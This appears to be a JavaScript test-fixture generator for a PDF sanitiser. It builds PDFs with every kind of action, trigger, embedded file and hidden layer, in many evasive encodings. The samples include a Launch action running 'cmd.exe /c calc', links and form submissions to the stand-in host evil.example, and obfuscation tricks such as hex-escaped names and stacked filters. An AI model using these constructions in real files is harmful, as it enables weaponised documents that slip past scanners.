import { lockedPdf, packedPdf, pageObjects, plainPdf, updatedPdf } from './pdf-writer.mjs';

/*
 * PDFs with active content: every kind of action, in every place where a viewer starts one, in every spelling and
 * encoding. Object 4 is the action.
 */

const file = '/F (\\\\\\\\evil.example\\\\share\\\\a.exe)';
/** Kinds of actions (ISO 32000-2, table 201) and how each is written. */
const kinds = {
  JavaScript: '<< /S /JavaScript /JS (app.alert) >>',
  Launch: `<< /S /Launch ${file} >>`,
  'Launch for Windows': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  GoToR: `<< /S /GoToR ${file} /D [0 /Fit] /NewWindow true >>`,
  GoToE: `<< /S /GoToE ${file} /D (a) /T << /R /C /N (b) >> >>`,
  Thread: `<< /S /Thread ${file} /D 0 >>`,
  URI: '<< /S /URI /URI (https://evil.example/) >>',
  SubmitForm: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Fields [] >>',
  ImportData: `<< /S /ImportData ${file} >>`,
  ResetForm: '<< /S /ResetForm >>',
  Rendition: '<< /S /Rendition /OP 0 /R << /S /MR >> /JS (app.alert) >>',
  'Rendition without a script': '<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (a) >> >> >>',
  Movie: '<< /S /Movie /T (film) >>',
  Sound: '<< /S /Sound /Volume 1 >>',
  Hide: '<< /S /Hide /T (stamp) /H true >>',
  SetOCGState: '<< /S /SetOCGState /State [/OFF] >>',
  RichMediaExecute: '<< /S /RichMediaExecute /CMD << /C (go) >> >>',
  GoTo3DView: '<< /S /GoTo3DView /V 0 >>',
};

const annotation = (rest) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] ${rest} >>]`;
const names = (tree) => `/Names << /${tree} << /Names [(a) 4 0 R] >> >>`;
const fileSpec = '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>';
const attached = { dictionary: '/Type /EmbeddedFile', bytes: Buffer.from('MZ program') };

/** Where a viewer starts an action: entries of catalogue and page, and further objects. */
const places = {
  'on opening': { catalogue: '/OpenAction 4 0 R' },
  'on opening, written in place': { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert) >>' },
  'before closing': { catalogue: '/AA << /WC 4 0 R >>' },
  'before printing': { catalogue: '/AA << /WP 4 0 R >>' },
  'on a page': { page: '/AA << /O 4 0 R >>' },
  'leaving a page': { page: '/AA << /C 4 0 R >>' },
  'in the pages above': { catalogue: '/OpenAction 5 0 R', more: ['[3 0 R /Fit]', '<< /AA << /O 4 0 R >> >>'] },
  'on a link': { page: annotation('/A 4 0 R') },
  'under the mouse': { page: annotation('/AA << /E 4 0 R >>') },
  'on seeing a field': { page: annotation('/Subtype /Widget /FT /Tx /AA << /PV 4 0 R >>') },
  'by a former name': { page: annotation('/PA 4 0 R') },
  'on an outline': {
    catalogue: '/Outlines 5 0 R',
    more: ['<< /First 6 0 R /Last 6 0 R /Count 1 >>', '<< /Title (a) /Parent 5 0 R /A 4 0 R >>'],
  },
  'by a name': { catalogue: names('JavaScript') },
  'in a tree of names': {
    catalogue: '/Names << /JavaScript << /Kids [5 0 R] >> >>',
    more: ['<< /Limits [(a) (a)] /Names [(a) 4 0 R] >>'],
  },
  'after another action': { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>' },
  'in a list after another': { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>' },
  'in a calculated field': {
    catalogue: '/AcroForm << /Fields [5 0 R] /CO [5 0 R] >>',
    more: ['<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /C 4 0 R >> >>'],
  },
};

/** Active content that is not an action object. */
const contents = {
  'XFA form': [
    { catalogue: '/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>' },
    { dictionary: '', bytes: Buffer.from('<template/>') },
  ],
  'XFA in one stream': [{ catalogue: '/AcroForm << /XFA 4 0 R >>' }, { dictionary: '', bytes: Buffer.from('<xdp/>') }],
  'attached file': [{ catalogue: names('EmbeddedFiles'), more: [attached] }, fileSpec],
  'attached to a page': [{ page: annotation('/Subtype /FileAttachment /FS 4 0 R'), more: [attached] }, fileSpec],
  'attached by association': [{ catalogue: '/AF [4 0 R]', more: [attached] }, fileSpec],
  portfolio: [{ catalogue: '/Collection << /Type /Collection /View /D >>' }, 'null'],
  'rich media': [{ page: annotation('/Subtype /RichMedia /RichMediaContent 4 0 R') }, '<< /Assets << >> >>'],
  screen: [{ page: annotation('/Subtype /Screen /AA << /PO 4 0 R >>') }, kinds.Rendition],
  movie: [{ page: annotation('/Subtype /Movie /Movie 4 0 R') }, `<< ${file} >>`],
  sound: [{ page: annotation('/Subtype /Sound /Sound 4 0 R') }, { dictionary: '/R 8000', bytes: Buffer.from('abc') }],
  'three dimensions': [
    { page: annotation('/Subtype /3D /3DD 4 0 R') },
    { dictionary: '/Type /3D /Subtype /U3D', bytes: Buffer.from('U3D') },
  ],
};

const elsewhere = '(\\\\\\\\evil.example\\\\share\\\\a)';
const image = '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8';
const form = '/Type /XObject /Subtype /Form /BBox [0 0 9 9]';
const url = '<< /Type /Filespec /FS /URL /F (https://evil.example/a) >>';
/** Streams that a viewer or a printer fetches from elsewhere, or runs, when it draws the page. */
const fetched = {
  'a page of another file': `${form} /Ref << /F ${elsewhere} /Page 0 >>`,
  'a page of the web': `${form} /Ref << /F ${url} /Page 0 >>`,
  'a picture of another file': `${image} /F ${elsewhere} /FFilter /DCTDecode`,
  'a picture of the web': `${image} /F ${url}`,
  'a picture of the printer’s own': `${image} /OPI << /2.0 << /Type /OPI /Version 2.0 /F ${elsewhere} >> >>`,
  'a program of the printer': '/Type /XObject /Subtype /PS',
  'a form for the printer': `${form} /Subtype2 /PS /PS 4 0 R`,
};
const drawing = {
  page: '/Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >>',
  more: [{ dictionary: '', bytes: Buffer.from('/X Do') }],
};

const layer = (usage) => `<< /Type /OCG /Name (a) ${usage} >>`;
const underLayer = { dictionary: '', bytes: Buffer.from('/OC /L BDC 0 0 99 99 re f EMC') };
const layered = (shown, object, usage = '') => [
  {
    catalogue: `/OCProperties << /OCGs [6 0 R] /D << ${shown} >> >>`,
    page: '/Contents 5 0 R /Resources << /Properties << /L 4 0 R >> >>',
    more: [underLayer, layer(usage)],
  },
  object,
];
const automatic = '/AS [<< /Event /View /Category [/View] /OCGs [6 0 R] >>]';
/** Layers that a viewer hides, but that a copy of only the pages would show. */
const hidden = {
  'switched off': layered('/OFF [6 0 R]', '<< /Type /OCMD /OCGs [6 0 R] >>'),
  'off at first': layered('/BaseState /OFF', '<< /Type /OCMD /OCGs [6 0 R] >>'),
  'shown when off': layered('', '<< /Type /OCMD /OCGs [6 0 R] /P /AllOff >>'),
  'shown when any is off': layered('', '<< /Type /OCMD /OCGs [6 0 R] /P /AnyOff >>'),
  negated: layered('', '<< /Type /OCMD /VE [/And [/Not 6 0 R]] >>'),
  'off for viewers': layered(automatic, '<< /Type /OCMD /OCGs [6 0 R] >>', '/Usage << /View << /ViewState /OFF >> >>'),
};

const hex = (name) => [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('');
const inHex = (text) =>
  text.replace(/\/(JavaScript|JS|Launch|URI|S|OpenAction|AA|GoToR)(?![A-Za-z])/g, (_, name) => `/${hex(name)}`);

/** The ways to write a file with these objects. */
const packings = {
  plainly: (objects) => plainPdf(objects),
  'with names in hexadecimal': (objects) =>
    plainPdf(objects.map((one) => (typeof one === 'string' ? inHex(one) : one))),
  'with no blanks': (objects) =>
    plainPdf(objects.map((one) => (typeof one === 'string' ? one.replace(/ (?=[/<([])/g, '') : one))),
  'with comments between': (objects) =>
    plainPdf(objects.map((one) => (typeof one === 'string' ? one.replaceAll(' /S /', ' %)>>\n/S%\n/') : one))),
  'without a table': (objects) =>
    plainPdf([...objects], { cut: true, trailer: '' })
      .toString('latin1')
      .concat('trailer << /Root 1 0 R >>\n'),
  'with junk before it': (objects) => Buffer.concat([Buffer.from('%PDF-1.7\njunk\n'), plainPdf(objects)]),
  'in a later version': (objects) =>
    updatedPdf(plainPdf(pageObjects()), Object.fromEntries(objects.map((one, at) => [at + 1, one]))),
  'in a later version of some objects': (objects) =>
    updatedPdf(
      plainPdf(objects.map((one, at) => (at > 2 ? 'null' : one))),
      Object.fromEntries(objects.slice(3).map((one, at) => [at + 4, one])),
    ),
  'locked without a password': (objects) => lockedPdf(objects),
  'in an object stream': (objects) => packedPdf(objects),
  'in an object stream that is not packed': (objects) => packedPdf(objects, { filter: [] }),
  'in hexadecimal digits': (objects) => packedPdf(objects, { filter: ['ASCIIHexDecode'] }),
  'in base 85': (objects) => packedPdf(objects, { filter: ['ASCII85Decode'] }),
  'in LZW': (objects) => packedPdf(objects, { filter: ['LZWDecode'] }),
  'in run lengths': (objects) => packedPdf(objects, { filter: ['RunLengthDecode'] }),
  'packed twice': (objects) => packedPdf(objects, { filter: ['FlateDecode', 'FlateDecode'] }),
  'packed in base 85 and hexadecimal': (objects) =>
    packedPdf(objects, { filter: ['ASCII85Decode', 'ASCIIHexDecode', 'FlateDecode'] }),
  'under a long dictionary': (objects) => packedPdf(objects, { long: 4000 }),
  'with blanks before stream': (objects) => packedPdf(objects, { beforeStream: ' '.repeat(300) }),
  'with a comment before stream': (objects) => packedPdf(objects, { beforeStream: ' % endstream >>' }),
  'with its type in hexadecimal': (objects) => packedPdf(objects, { type: '/Obj#53tm' }),
  'behind nine megabytes of blanks': (objects) => packedPdf(objects, { padding: 9 * 1024 * 1024 }),
  'behind 2,005 streams': (objects) => packedPdf(objects, { dummies: 2005 }),
  'in both kinds of tables': (objects) => packedPdf(objects, { hybrid: true }),
};

const withAction = ({ more = [], ...rest }, action) => pageObjects({ ...rest, more: [action, ...more] });
const bytesOf = (written) => (Buffer.isBuffer(written) ? written : Buffer.from(written, 'latin1'));

/** @returns {{name: string, bytes: () => Buffer}[]} files that must never reach a user unchanged */
export function activeFiles() {
  const onOpening = places['on opening'];
  const link = places['on a link'];
  const rows = [
    ...Object.entries(kinds).map(([kind, action]) => [
      `${kind} on opening`,
      () => plainPdf(withAction(onOpening, action)),
    ]),
    ...Object.entries(kinds).map(([kind, action]) => [
      `${kind} on a page, in an object stream`,
      () => packedPdf(withAction(places['on a page'], action)),
    ]),
    ...Object.entries(places).map(([place, entry]) => [
      `script ${place}`,
      () => plainPdf(withAction(entry, kinds.JavaScript)),
    ]),
    ...Object.entries(contents).flatMap(([what, [entry, object]]) =>
      ['plainly', 'in an object stream'].map((how) => [
        `${what}, ${how}`,
        () => packings[how](withAction(entry, object)),
      ]),
    ),
    ...Object.entries(packings).flatMap(([how, write]) => [
      [`script, ${how}`, () => write(withAction(onOpening, kinds.JavaScript))],
      [`program, ${how}`, () => write(withAction(link, kinds.Launch))],
      [`page of the web, ${how}`, () => write(withAction(places['after another action'], kinds.URI))],
      [`other file, ${how}`, () => write(withAction(places['on an outline'], kinds.GoToR))],
    ]),
  ];
  return rows.map(([name, write]) => ({ name, bytes: () => bytesOf(write()) }));
}

/** Files whose pages draw content from elsewhere; copying the drawing also copies the reference to it. */
export function fetchedFiles() {
  return Object.entries(fetched).flatMap(([what, dictionary]) =>
    ['plainly', 'in an object stream', 'locked without a password'].map((how) => ({
      name: `${what}, ${how}`,
      bytes: () => bytesOf(packings[how](withAction(drawing, { dictionary, bytes: Buffer.from('x') }))),
    })),
  );
}

/** Files with a layer that a viewer does not show. */
export function hiddenLayerFiles() {
  return Object.entries(hidden).map(([how, [entry, object]]) => ({
    name: how,
    bytes: () => bytesOf(packedPdf(withAction(entry, object))),
  }));
}
